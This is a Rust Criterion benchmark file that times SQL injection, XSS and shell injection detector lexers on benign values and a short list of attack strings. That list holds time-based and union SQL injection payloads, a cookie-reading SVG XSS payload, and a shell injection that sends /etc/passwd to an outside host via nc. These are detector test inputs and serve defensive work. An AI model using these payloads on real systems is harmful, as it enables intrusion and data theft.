//! Criterion benches of the three lexers on typical values: short names, a
//! 200-character free text, attack strings, and long values to check that
//! cost grows linearly with length. Prints ns per value.
//!
//! `cargo bench -p palisade-lexers --bench lexers`

use criterion::{BenchmarkId, Criterion, Throughput, criterion_group, criterion_main};
use std::hint::black_box;

const SHORT: &[&str] = &[
    "O'Brien",
    "john.doe@example.com",
    "4111111111111111",
    "EUR",
    "2024-03-15",
    "D'Angelo & Sons",
];
const TEXT: &str = "Hello, I'd like to update the billing address on my account; the old one (12 King's Road) is wrong. \
Please select the new plan from the list & confirm by e-mail <bob@example.com>. Thanks -- Bob";
const ATTACKS: &[&str] = &[
    "1' and (select * from (select(sleep(5)))a)--",
    "-1 union all select null,null,concat(user(),0x3a,version())#",
    "\"><svg onload=alert(document.cookie)>",
    "; cat /etc/passwd | nc 10.0.0.1 4444",
];

fn all(v: &str) -> usize {
    usize::from(palisade_lexers::sqli(v).is_some())
        + usize::from(palisade_lexers::xss(v).is_some())
        + usize::from(palisade_lexers::shell_injection(v).is_some())
}

fn bench(c: &mut Criterion) {
    let mut g = c.benchmark_group("lexers");
    g.bench_function("sqli/short", |b| {
        b.iter(|| {
            SHORT
                .iter()
                .filter(|v| palisade_lexers::sqli(black_box(v)).is_some())
                .count()
        })
    });
    g.bench_function("xss/short", |b| {
        b.iter(|| {
            SHORT
                .iter()
                .filter(|v| palisade_lexers::xss(black_box(v)).is_some())
                .count()
        })
    });
    g.bench_function("shell/short", |b| {
        b.iter(|| {
            SHORT
                .iter()
                .filter(|v| palisade_lexers::shell_injection(black_box(v)).is_some())
                .count()
        })
    });
    g.bench_function("all/short (per value)", |b| {
        b.iter(|| all(black_box("O'Brien")))
    });
    g.bench_function("all/text200", |b| b.iter(|| all(black_box(TEXT))));
    g.bench_function("sqli/text200", |b| {
        b.iter(|| palisade_lexers::sqli(black_box(TEXT)))
    });
    g.bench_function("xss/text200", |b| {
        b.iter(|| palisade_lexers::xss(black_box(TEXT)))
    });
    g.bench_function("shell/text200", |b| {
        b.iter(|| palisade_lexers::shell_injection(black_box(TEXT)))
    });
    g.bench_function("all/attacks", |b| {
        b.iter(|| ATTACKS.iter().map(|a| all(black_box(a))).sum::<usize>())
    });
    g.finish();

    // Linearity: the same mixed text repeated to growing lengths.
    let mut g = c.benchmark_group("linear");
    for reps in [1usize, 4, 16, 64] {
        let v = TEXT.repeat(reps) + &ATTACKS.join(" ");
        g.throughput(Throughput::Bytes(v.len() as u64));
        g.bench_with_input(BenchmarkId::from_parameter(v.len()), &v, |b, v| {
            b.iter(|| all(black_box(v)))
        });
    }
    g.finish();
}

criterion_group!(benches, bench);
criterion_main!(benches);
